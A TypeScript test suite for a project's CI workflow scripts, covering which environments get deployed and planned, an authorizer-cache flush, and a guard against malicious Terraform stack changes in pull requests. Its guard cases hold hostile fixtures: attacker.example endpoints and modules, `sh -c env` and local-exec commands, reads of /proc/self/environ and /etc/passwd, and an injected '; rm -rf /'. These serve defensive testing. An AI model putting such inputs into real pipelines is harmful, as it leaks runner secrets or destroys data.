/**
 * The scripts the workflows run, run here the way the runner runs them (bash -eo pipefail, the
 * step's own `run` text and env), on stacks synthesized from the shipped config:
 * - which environments CI deploys and plans (remote state only; local state is a notice);
 * - the authorizer-cache flush after a deploy (a stand-in `aws` on PATH records the call);
 * - the plan guard, against the real stacks and against stacks altered the ways a pull request
 *   could try to run code or read secrets during `terraform init` / `plan`.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { parseDocument } from "yaml";
import { tempDir } from "../support/synth";
import { synthesizeApp } from "../../constructs/m2m-app";
import defaultConfig from "../../m2m.config";
import { validateConfig } from "../../model/validate";

const ROOT = resolve(__dirname, "..", "..");
const GUARD = join(ROOT, ".github", "plan-guard", "check-plan-input.js");
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { checkStack } = require(GUARD) as { checkStack: (dir: string) => string[] };

type Step = { name?: string; run?: string; env?: Record<string, string> };

function stepOf(workflow: string, job: string, matches: (s: Step) => boolean): Step {
  const wf = parseDocument(readFileSync(join(ROOT, ".github", "workflows", workflow), "utf8")).toJS() as { jobs: Record<string, { steps: Step[] }> };
  const step = wf.jobs[job]!.steps.find(matches);
  if (!step) throw new Error(`no such step in ${workflow} ${job}`);
  return step;
}

/** Runs a step's script as GitHub's runner does (`bash --noprofile --norc -eo pipefail`). */
function runStep(script: string, cwd: string, env: Record<string, string>): { status: number; stdout: string; stderr: string } {
  const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", script], {
    cwd,
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: cwd, ...env },
    encoding: "utf8",
  });
  return { status: result.status ?? -1, stdout: result.stdout, stderr: result.stderr };
}

/** A workspace like the runner's after checkout and `npm run synth`: .github/ of this repository and freshly synthesized stacks. */
function workspace(): string {
  const dir = tempDir("workflow");
  symlinkSync(join(ROOT, ".github"), join(dir, ".github"));
  synthesizeApp(validateConfig(defaultConfig), { outdir: join(dir, "cdktf.out") });
  return dir;
}

function outputsOf(file: string): Record<string, string> {
  return Object.fromEntries(
    readFileSync(file, "utf8")
      .split("\n")
      .filter((l) => l.includes("="))
      .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
  );
}

const ws = workspace();
afterAll(() => rmSync(ws, { recursive: true, force: true }));

describe("environments CI deploys and plans (remote state only)", () => {
  it("deploy.yml, shipped config: prod is deployed; dev (local state) is skipped with a notice, not a failure", () => {
    const step = stepOf("deploy.yml", "verify", (s) => s.run?.includes("remote-state-environments.sh") === true);
    const output = join(ws, "deploy-output");
    writeFileSync(output, "");
    const result = runStep(step.run!, ws, { ...step.env!, GITHUB_OUTPUT: output });
    expect(result.status).toBe(0);
    expect(JSON.parse(outputsOf(output)["environments"]!)).toEqual(["prod"]);
    expect(result.stdout).toMatch(/^::notice title=dev not deployed by CI::environment dev keeps its Terraform state locally.*npm run deploy -- dev/m);
    expect(result.stdout).not.toContain("::error");
    expect(result.stdout).not.toContain("::warning"); // prod has a job
  });

  it("pull-request.yml, shipped config: only prod is planned, with a notice for dev", () => {
    const step = stepOf("pull-request.yml", "verify", (s) => s.run?.includes("remote-state-environments.sh") === true);
    const output = join(ws, "plan-output");
    writeFileSync(output, "");
    const result = runStep(step.run!, ws, { ...(step.env ?? {}), GITHUB_OUTPUT: output });
    expect(result.status).toBe(0);
    expect(JSON.parse(outputsOf(output)["environments"]!)).toEqual(["prod"]);
    expect(result.stdout).toMatch(/^::notice title=dev not planned by CI::.*npm run diff -- dev/m);
  });

  function stacksWith(backends: Record<string, "s3" | "local">): string {
    const dir = tempDir("stacks");
    for (const [env, type] of Object.entries(backends)) {
      mkdirSync(join(dir, env));
      const backend = type === "s3" ? { s3: { bucket: "state-bucket", key: `${env}.tfstate`, region: "eu-west-1" } } : { local: { path: "x.tfstate" } };
      writeFileSync(join(dir, env, "cdk.tf.json"), JSON.stringify({ terraform: { backend } }));
    }
    return dir;
  }

  function list(stacks: string, env: Record<string, string> = {}) {
    const output = join(stacks, "github-output");
    writeFileSync(output, "");
    const result = spawnSync("bash", [join(ROOT, ".github", "scripts", "remote-state-environments.sh"), "deployed", stacks], {
      env: { PATH: process.env.PATH ?? "", GITHUB_OUTPUT: output, ...env },
      encoding: "utf8",
    });
    return { status: result.status, stdout: result.stdout, environments: JSON.parse(outputsOf(output)["environments"] ?? "null") as unknown };
  }

  it("deploys dev too once it has remote state, and warns about a remote-state environment with no job", () => {
    const stacks = stacksWith({ dev: "s3", prod: "s3", staging: "s3", sandbox: "local" });
    const result = list(stacks, { KNOWN_ENVIRONMENTS: "dev prod" });
    expect(result.status).toBe(0);
    expect(result.environments).toEqual(["dev", "prod", "staging"]);
    expect(result.stdout).toContain("::notice title=sandbox not deployed by CI::");
    expect(result.stdout).toContain("::warning title=staging has no deploy job::");
    expect(result.stdout).not.toContain("title=dev");
  });

  it("gives an empty list, not a list with an empty name, when no environment has remote state", () => {
    const result = list(stacksWith({ dev: "local" }));
    expect(result.status).toBe(0);
    expect(result.environments).toEqual([]);
  });
});

describe("authorizer cache flush after a deploy", () => {
  const step = stepOf("deploy-environment.yml", "deploy", (s) => s.run?.includes("flush-authorizer-cache.sh") === true);

  /** A directory with outputs.json and an `aws` stand-in that records its arguments (and fails when asked to). */
  function deployed(outputs: unknown, awsExit = 0): { dir: string; calls: () => string[] } {
    const dir = tempDir("flush");
    symlinkSync(join(ROOT, ".github"), join(dir, ".github"));
    mkdirSync(join(dir, "bin"));
    writeFileSync(join(dir, "bin", "aws"), `#!/usr/bin/env bash\nprintf '%s\\n' "$*" >> "${join(dir, "aws-calls")}"\nexit ${awsExit}\n`);
    chmodSync(join(dir, "bin", "aws"), 0o755);
    writeFileSync(join(dir, "outputs.json"), JSON.stringify(outputs));
    const calls = () => (existsSync(join(dir, "aws-calls")) ? readFileSync(join(dir, "aws-calls"), "utf8").trim().split("\n") : []);
    return { dir, calls };
  }

  const run = (dir: string, env: string) => runStep(step.run!, dir, { M2M_ENV: env, PATH: `${join(dir, "bin")}:${process.env.PATH ?? ""}` });

  it("flushes the stage of the environment just deployed: REST API id from the invoke URL's host, stage from its path", () => {
    const { dir, calls } = deployed({
      dev: { invoke_url: "https://devapi0001.execute-api.eu-west-1.amazonaws.com/dev" },
      prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-central-1.amazonaws.com/prod", token_endpoint: "https://x.auth.eu-central-1.amazoncognito.com/oauth2/token" },
    });
    const result = run(dir, "prod");
    expect(result.status).toBe(0);
    expect(calls()).toEqual(["apigateway flush-stage-authorizers-cache --rest-api-id a1b2c3d4e5 --stage-name prod --region eu-central-1"]);
    expect(result.stdout).toContain("flushed the authorizer cache of stage prod (REST API a1b2c3d4e5, eu-central-1)");
  });

  it("accepts an invoke URL with a trailing slash", () => {
    const { dir, calls } = deployed({ prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/v1_live/" } });
    expect(run(dir, "prod").status).toBe(0);
    expect(calls()).toEqual(["apigateway flush-stage-authorizers-cache --rest-api-id a1b2c3d4e5 --stage-name v1_live --region eu-west-1"]);
  });

  it.each([
    ["no entry for the environment", { dev: { invoke_url: "https://devapi0001.execute-api.eu-west-1.amazonaws.com/dev" } }],
    ["no invoke_url", { prod: { token_endpoint: "https://x" } }],
    ["an invoke URL of another shape", { prod: { invoke_url: "https://example.com/prod; rm -rf /" } }],
  ])("fails with one ::error line, calling nothing, on %s", (_case, outputs) => {
    const { dir, calls } = deployed(outputs);
    const result = run(dir, "prod");
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/^::error title=authorizer cache not flushed::/);
    expect(calls()).toEqual([]);
  });

  it("fails the job when the flush itself fails (e.g. the deploy role lacks apigateway:DELETE)", () => {
    const { dir, calls } = deployed({ prod: { invoke_url: "https://a1b2c3d4e5.execute-api.eu-west-1.amazonaws.com/prod" } }, 254);
    const result = run(dir, "prod");
    expect(result.status).not.toBe(0);
    expect(calls()).toHaveLength(1);
    expect(result.stdout).not.toContain("flushed");
  });
});

describe("plan guard (.github/plan-guard/check-plan-input.js)", () => {
  const prod = join(ws, "cdktf.out", "stacks", "prod");

  /** A copy of the synthesized prod stack, with `alter` applied to its cdk.tf.json (and the directory). */
  function altered(alter: (doc: any, dir: string) => void): string {
    const dir = join(tempDir("guard"), "prod");
    cpSync(prod, dir, { recursive: true });
    const file = join(dir, "cdk.tf.json");
    const doc = JSON.parse(readFileSync(file, "utf8"));
    alter(doc, dir);
    writeFileSync(file, JSON.stringify(doc, null, 2));
    return dir;
  }

  const firstResource = (doc: any, type: string) => Object.values(doc.resource[type] as Record<string, any>)[0];

  it("passes the stacks this project synthesizes (control), and the workflow step as written runs it", () => {
    expect(checkStack(prod)).toEqual([]);
    const step = stepOf("pull-request.yml", "plan", (s) => s.env?.["GUARD"] !== undefined);
    const result = runStep(step.run!, ws, { GUARD, STACK_DIR: prod });
    expect([result.status, result.stdout.trim()]).toEqual([0, `plan guard: ${prod}: ok`]);
  });

  it("fails the workflow step, without running anything, when the base branch has no guard", () => {
    const step = stepOf("pull-request.yml", "plan", (s) => s.env?.["GUARD"] !== undefined);
    const result = runStep(step.run!, ws, { GUARD: "base/.github/plan-guard/check-plan-input.js", STACK_DIR: prod });
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/^::error title=plan guard missing::/);
  });

  it("refuses local state (CI plans only environments with remote state)", () => {
    expect(checkStack(join(ws, "cdktf.out", "stacks", "dev"))).toEqual([expect.stringContaining("terraform.backend must be s3")]);
  });

  it.each<[string, (doc: any, dir: string) => void, RegExp]>([
    ["a third provider", (d) => (d.terraform.required_providers.external = { source: "hashicorp/external", version: "2.3.4" }), /required_providers must be exactly archive and aws/],
    ["another aws provider version", (d) => (d.terraform.required_providers.aws.version = "6.26.0"), /aws\.version must be exactly 6\.25\.0/],
    ["a version range", (d) => (d.terraform.required_providers.archive.version = ">= 2.7.1"), /archive\.version must be exactly 2\.7\.1/],
    ["an aws provider from another namespace", (d) => (d.terraform.required_providers.aws.source = "evil/aws"), /aws\.source must be/],
    ["an http provider block", (d) => (d.provider.http = [{}]), /provider http is not allowed/],
    ["an aws provider profile (credential_process)", (d) => (d.provider.aws[0].profile = "evil"), /provider aws setting profile is not allowed/],
    ["aws provider endpoints", (d) => (d.provider.aws[0].endpoints = [{ sts: "https://attacker.example" }]), /provider aws setting endpoints is not allowed/],
    ["an external data source", (d) => (d.data.external = { x: { program: ["sh", "-c", "env"] } }), /data source external is not allowed/],
    ["an http data source", (d) => (d.data.http = { x: { url: "https://attacker.example" } }), /data source http is not allowed/],
    ["a terraform_remote_state data source", (d) => (d.data.terraform_remote_state = { s: { backend: "s3" } }), /data source terraform_remote_state is not allowed/],
    ["a local-exec provisioner", (d) => (firstResource(d, "aws_iam_role").provisioner = [{ "local-exec": { command: "env" } }]), /provisioner is not allowed/],
    ["a non-aws resource", (d) => (d.resource.terraform_data = { x: { input: "y" } }), /resource type terraform_data is not allowed/],
    ["a module (init would fetch it)", (d) => (d.module = { m: { source: "git::https://attacker.example/m.git" } }), /top-level block module is not allowed/],
    ["a check block", (d) => (d.check = { c: {} }), /top-level block check is not allowed/],
    ["an import block", (d) => (d.import = [{ to: "aws_s3_object.x", id: "state/key" }]), /top-level block import is not allowed/],
    ["a removed block that destroys", (d) => (d.removed = [{ from: "aws_cognito_user_pool.user_pool", lifecycle: { destroy: true } }]), /removed\[0\]\.lifecycle must be exactly \{ destroy = false \}/],
    ["a removed block for a module", (d) => (d.removed = [{ from: "module.m", lifecycle: { destroy: false } }]), /removed\[0\]\.from must be the address of an aws_\* resource/],
    ["a removed block with a provisioner", (d) => (d.removed = [{ from: "aws_iam_role.x", lifecycle: { destroy: false }, provisioner: [{ "local-exec": { command: "env" } }] }]), /removed\[0\]\.provisioner is not allowed/],
    ["a required_version that is not a lower bound", (d) => (d.terraform.required_version = "~> 1.10"), /required_version must be a lower bound/],
    ["nonsensitive() on a secret", (d) => (d.output.leak = { value: "${nonsensitive(aws_cognito_user_pool_client.client_billing.client_secret)}" }), /nonsensitive/],
    ["file() reading the runner's environment", (d) => (firstResource(d, "aws_iam_role").description = '${file("/proc/self/environ")}'), /mentions file/],
    ["file() hidden by spacing", (d) => (firstResource(d, "aws_iam_role").description = '${ file ( "/proc/self/environ" ) }'), /mentions file/],
    ["templatefile()", (d) => (firstResource(d, "aws_iam_role").description = '${templatefile("/etc/passwd", {})}'), /mentions templatefile/],
    ["an unknown function", (d) => (firstResource(d, "aws_iam_role").description = '${provider::evil::run("x")}'), /function provider::evil::run\(\) is not allowed/],
    ["a templated key", (d) => (firstResource(d, "aws_iam_role").tags = { '${file("/proc/self/environ")}': "x" }), /\(key\): expression mentions file/],
    ["an S3 backend endpoint override", (d) => (d.terraform.backend.s3.endpoints = { s3: "https://attacker.example" }), /backend\.s3\.endpoints is not allowed/],
    ["an archive reading outside the stack", (d) => (Object.values(d.data.archive_file as Record<string, any>)[0].source_file = "/proc/self/environ"), /source_file must be a relative path/],
    ["an archive written outside the stack", (d) => (Object.values(d.data.archive_file as Record<string, any>)[0].output_path = "../../x.zip"), /output_path must be a relative path/],
    ["a .tf file next to the JSON", (_d, dir) => writeFileSync(join(dir, "extra.tf"), 'data "external" "x" { program = ["env"] }'), /unexpected file extra\.tf/],
    ["a lock file (reusing a planted provider)", (_d, dir) => writeFileSync(join(dir, ".terraform.lock.hcl"), ""), /unexpected file \.terraform\.lock\.hcl/],
    ["a .terraform directory", (_d, dir) => mkdirSync(join(dir, ".terraform")), /unexpected directory \.terraform/],
    ["a symbolic link in the assets", (_d, dir) => symlinkSync("/proc/self/environ", join(dir, "assets", "environ")), /symbolic link assets\/environ/],
  ])("refuses %s", (_what, alter, problem) => {
    const problems = checkStack(altered(alter));
    expect(problems).toContainEqual(expect.stringMatching(problem));
  });

  it("lists every problem, one ::error line each, and exits 1 (the CLI the workflow runs)", () => {
    const dir = altered((d) => {
      d.provider.aws[0].profile = "evil";
      d.terraform.required_providers.aws.version = "6.26.0";
    });
    const result = spawnSync(process.execPath, [GUARD, dir], { encoding: "utf8" });
    expect(result.status).toBe(1);
    const errors = result.stdout.split("\n").filter((l) => l.startsWith("::error title=plan guard (prod)::"));
    expect(errors).toHaveLength(2);
    expect(result.stdout).toContain("2 problems; no credentials were used, terraform did not run");
  });

  it("refuses a stack directory whose name is not an environment name", () => {
    const dir = join(tempDir("guard"), "..evil");
    cpSync(prod, dir, { recursive: true });
    expect(checkStack(dir)).toContainEqual(expect.stringMatching(/is not an environment name/));
  });
});
